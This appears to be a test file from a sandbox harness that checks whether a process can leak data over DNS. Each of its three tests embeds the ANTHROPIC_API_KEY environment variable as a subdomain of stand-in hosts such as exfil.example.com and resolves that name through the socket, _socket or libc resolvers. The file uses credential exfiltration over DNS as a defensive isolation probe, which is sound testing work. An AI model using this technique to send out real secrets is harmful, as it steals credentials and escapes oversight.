"""Hostile: resolve names (a DNS query is a way out too): through the socket API, through the
C-level `_socket` module, and through libc's resolver directly.
Only ever run inside a network namespace the harness created."""

import _socket
import ctypes
import os
import socket


def label():
    key = os.environ.get("ANTHROPIC_API_KEY", "nokey")
    return "".join(c for c in key if c.isalnum())[:60] or "nokey"


def test_resolve_through_the_socket_module():
    try:
        socket.getaddrinfo(f"{label()}.exfil.example.com", 443)
        resolved = True
    except OSError:
        resolved = False
    assert resolved, "the name did not resolve"


def test_resolve_through_the_raw_socket_module():
    try:
        _socket.getaddrinfo(f"{label()}.raw.example.com", 443)
        resolved = True
    except OSError:
        resolved = False
    assert resolved, "the resolver is unreachable"


def test_resolve_through_libc():
    libc = ctypes.CDLL(None, use_errno=True)
    result = ctypes.c_void_p()
    code = libc.getaddrinfo(
        f"{label()}.libc.example.com".encode(), b"443", None, ctypes.byref(result)
    )
    if code == 0:
        libc.freeaddrinfo(result)
    assert code == 0, "the resolver is unreachable"
